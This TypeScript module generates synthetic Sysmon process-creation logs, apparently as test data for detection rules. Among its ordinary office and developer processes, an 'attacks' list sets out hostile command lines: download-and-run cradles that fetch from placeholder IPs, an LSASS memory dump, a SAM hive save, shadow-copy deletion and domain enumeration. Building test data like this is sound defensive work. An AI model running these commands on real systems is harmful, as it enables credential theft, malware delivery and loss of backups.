import { createRandom, type Random } from "./random.ts";

/**
 * Process creations as Sysmon reports them (event 1) on an office machine, made up: no such log can be
 * published, and those that are hold little but attacks. Programs, arguments and parents are what a
 * Windows 11 with Office, two browsers and a developer's tools starts all day; about one in fifty is of
 * the kind SigmaHQ's rules look for. Numbers, identifiers, names and hashes differ in every event.
 */
export function windowsEvents(count: number): readonly string[] {
  const random = createRandom(20_260_821);
  return Array.from({ length: count }, () => {
    const [parent, image, command] = random.pick(random.below(50) === 0 ? attacks : ordinary);
    return JSON.stringify(eventOf({ parent, image, command: fill(command, random) }, random));
  });
}

type Started = readonly [parent: string, image: string, command: string];

const system = "C:\\Windows\\System32\\";
const programs = "C:\\Program Files\\";
const programs86 = "C:\\Program Files (x86)\\";
const home = "C:\\Users\\%u\\AppData\\Local\\";
const services = `${system}services.exe`;
const svchost = `${system}svchost.exe`;
const explorer = "C:\\Windows\\explorer.exe";
const shell = `${system}cmd.exe`;
const powershell = `${system}WindowsPowerShell\\v1.0\\powershell.exe`;
const chrome = `${programs}Google\\Chrome\\Application\\chrome.exe`;
const edge = `${programs86}Microsoft\\Edge\\Application\\msedge.exe`;
const code = `${home}Programs\\Microsoft VS Code\\Code.exe`;
const git = `${programs}Git\\cmd\\git.exe`;
const node = `${programs}nodejs\\node.exe`;
const renderer =
  '"%i" --type=renderer --display-capture-permissions-policy-allowed --lang=de --device-scale-factor=1.25 --num-raster-threads=4 --renderer-client-id=%n --time-ticks-at-unix-epoch=-%n%n --launch-time-ticks=%n%n --field-trial-handle=%n,i,%n%n,%n%n,262144 --variations-seed-version=20260801-%n --mojo-platform-channel-handle=%n /prefetch:1';

const ordinary: readonly Started[] = [
  [services, svchost, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv"],
  [
    services,
    svchost,
    "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s TimeBrokerSvc",
  ],
  [services, svchost, "C:\\Windows\\System32\\svchost.exe -k UnistackSvcGroup -s WpnUserService"],
  [services, svchost, "C:\\Windows\\system32\\svchost.exe -k appmodel -p -s camsvc"],
  [svchost, `${system}taskhostw.exe`, "taskhostw.exe {%h-%h-%h}"],
  [
    svchost,
    `${system}backgroundTaskHost.exe`,
    '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.App%h.mca',
  ],
  [svchost, `${system}RuntimeBroker.exe`, "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"],
  [svchost, `${system}dllhost.exe`, "C:\\Windows\\system32\\DllHost.exe /Processid:{%h-%h-%h-%h}"],
  [svchost, `${system}wbem\\WmiPrvSE.exe`, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"],
  [
    `${system}SearchIndexer.exe`,
    `${system}SearchProtocolHost.exe`,
    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe%n_ Global\\UsGthrCtrlFltPipeMssGthrPipe%n 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"',
  ],
  [
    services,
    `${programs}Windows Defender\\MpCmdRun.exe`,
    '"%i" SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke',
  ],
  [explorer, chrome, '"%i" --profile-directory="Default"'],
  [chrome, chrome, renderer],
  [
    chrome,
    chrome,
    '"%i" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=de --service-sandbox-type=none --mojo-platform-channel-handle=%n /prefetch:11',
  ],
  [edge, edge, renderer],
  [
    edge,
    edge,
    '"%i" --type=gpu-process --no-appcompat-clear --gpu-preferences=%h%h%h%h --mojo-platform-channel-handle=%n /prefetch:2',
  ],
  [explorer, `${programs}Microsoft Office\\root\\Office16\\OUTLOOK.EXE`, '"%i" /recycle'],
  [
    explorer,
    `${programs}Microsoft Office\\root\\Office16\\EXCEL.EXE`,
    '"%i" "C:\\Users\\%u\\Documents\\Umsatz %n.xlsx"',
  ],
  [
    explorer,
    `${programs}Microsoft Office\\root\\Office16\\WINWORD.EXE`,
    '"%i" /n "C:\\Users\\%u\\Documents\\Protokoll %n.docx" /o ""',
  ],
  [explorer, `${system}notepad.exe`, '"%i" C:\\Users\\%u\\Desktop\\notes-%n.txt'],
  [explorer, code, '"%i" "C:\\Users\\%u\\source\\repos\\project-%n"'],
  [
    code,
    code,
    '"%i" --type=utility --utility-sub-type=node.mojom.NodeService --lang=de --service-sandbox-type=none --user-data-dir="C:\\Users\\%u\\AppData\\Roaming\\Code" --standard-schemes=vscode-webview,vscode-file --field-trial-handle=%n,i,%n,%n --mojo-platform-channel-handle=%n /prefetch:8',
  ],
  [code, git, "git.exe status -z -uall"],
  [code, git, "git.exe rev-parse --show-toplevel"],
  [
    code,
    `${programs}Git\\mingw64\\bin\\git.exe`,
    "git.exe for-each-ref --format=%(refname)%00%(upstream:short)%00%(objectname) refs/heads/topic-%n",
  ],
  [
    shell,
    node,
    '"%i" "C:\\Users\\%u\\source\\repos\\project-%n\\node_modules\\.bin\\..\\vite\\bin\\vite.js" --port %n',
  ],
  [node, shell, 'C:\\Windows\\system32\\cmd.exe /d /s /c "npm run build -- --mode production"'],
  [code, powershell, "powershell.exe -NoProfile -NonInteractive -Command Get-Content .\\package.json"],
  [shell, `${system}conhost.exe`, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"],
  [explorer, `${home}Microsoft\\OneDrive\\OneDrive.exe`, '"%i" /background'],
  [
    explorer,
    `${programs}WindowsApps\\MSTeams_24%n_x64__8wekyb3d8bbwe\\ms-teams.exe`,
    '"%i" msteams:system-initiated',
  ],
  [svchost, `${programs86}Google\\GoogleUpdater\\%n\\updater.exe`, '"%i" --wake --system'],
  [services, `${system}msiexec.exe`, "C:\\Windows\\system32\\msiexec.exe /V"],
  [services, `${programs}VMware\\VMware Tools\\vmtoolsd.exe`, '"%i"'],
  [explorer, `${programs}7-Zip\\7zFM.exe`, '"%i" "C:\\Users\\%u\\Downloads\\archive-%n.zip"'],
  [svchost, `${system}smartscreen.exe`, "C:\\Windows\\System32\\smartscreen.exe -Embedding"],
  [services, `${system}spoolsv.exe`, "C:\\Windows\\System32\\spoolsv.exe"],
  [shell, `${programs}Python312\\python.exe`, 'python  -m pytest tests\\unit -k "test_%n" -q'],
];

const attacks: readonly Started[] = [
  [
    shell,
    powershell,
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA%h",
  ],
  [
    `${programs}Microsoft Office\\root\\Office16\\WINWORD.EXE`,
    shell,
    "cmd.exe /c powershell IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.%n/a.ps1')",
  ],
  [
    shell,
    `${system}certutil.exe`,
    "certutil.exe -urlcache -split -f http://203.0.113.%n/a.exe C:\\Users\\Public\\a.exe",
  ],
  [shell, `${system}vssadmin.exe`, "vssadmin.exe delete shadows /all /quiet"],
  [shell, `${system}reg.exe`, "reg save hklm\\sam C:\\Users\\Public\\sam.%n"],
  [
    powershell,
    `${system}rundll32.exe`,
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %n C:\\Windows\\Temp\\%n.dmp full",
  ],
  [shell, `${system}whoami.exe`, "whoami /all"],
  [shell, `${system}wbem\\WMIC.exe`, "wmic /node:10.0.0.%n process call create calc.exe"],
  [shell, `${system}net.exe`, 'net group "domain admins" /domain'],
  [explorer, `${system}mshta.exe`, "mshta.exe http://203.0.113.%n/x.hta"],
];

/** `%n` a number, `%h` eight hexadecimal digits; `%i` and `%u` are filled in by the event. */
function fill(command: string, random: Random): string {
  return command
    .replaceAll("%n", () => `${random.below(90_000) + 1000}`)
    .replaceAll("%h", () => random.text("0123456789ABCDEF", 8));
}

const users = ["anna.berg", "jonas.keller", "m.weber", "svc-build", "lena"];
const hexadecimal = "0123456789ABCDEF";

function eventOf(
  { parent, image, command }: Record<"parent" | "image" | "command", string>,
  random: Random,
): object {
  const user = random.pick(users);
  const isSystem = parent === services;
  const path = fill(image, random).replaceAll("%u", user);
  const account = isSystem ? "NT AUTHORITY\\SYSTEM" : `CONTOSO\\${user}`;
  const name = path.slice(path.lastIndexOf("\\") + 1);
  const guid = () =>
    `{${random.text(hexadecimal, 8)}-${random.text(hexadecimal, 4)}-66c5-0000-${random.text(hexadecimal, 12)}}`;
  const parentPath = parent.replaceAll("%u", user);
  return {
    EventID: 1,
    Provider_Name: "Microsoft-Windows-Sysmon",
    Channel: "Microsoft-Windows-Sysmon/Operational",
    Computer: `ws-${random.below(400)}.contoso.local`,
    RuleName: "-",
    UtcTime: `2026-08-21 ${10 + random.below(10)}:${10 + random.below(50)}:${10 + random.below(50)}.${100 + random.below(900)}`,
    ProcessGuid: guid(),
    ProcessId: random.below(30_000),
    Image: path,
    FileVersion: `10.0.${random.below(30_000)}.1 (WinBuild.160101.0800)`,
    Description: name.replace(/\.exe$/i, ""),
    Product: isSystem ? "Microsoft® Windows® Operating System" : name.replace(/\.exe$/i, ""),
    Company: "Microsoft Corporation",
    OriginalFileName: name,
    CommandLine: command.replaceAll("%i", path).replaceAll("%u", user),
    CurrentDirectory: isSystem ? system : `C:\\Users\\${user}\\`,
    User: account,
    LogonGuid: guid(),
    LogonId: isSystem ? "0x3e7" : `0x${random.text(hexadecimal, 6).toLowerCase()}`,
    TerminalSessionId: isSystem ? 0 : 1,
    IntegrityLevel: isSystem ? "System" : "Medium",
    Hashes: `MD5=${random.text(hexadecimal, 32)},SHA256=${random.text(hexadecimal, 64)},IMPHASH=${random.text(hexadecimal, 32)}`,
    ParentProcessGuid: guid(),
    ParentProcessId: random.below(30_000),
    ParentImage: parentPath,
    ParentCommandLine: parent === explorer ? "C:\\Windows\\Explorer.EXE" : `"${parentPath}"`,
    ParentUser: account,
  };
}
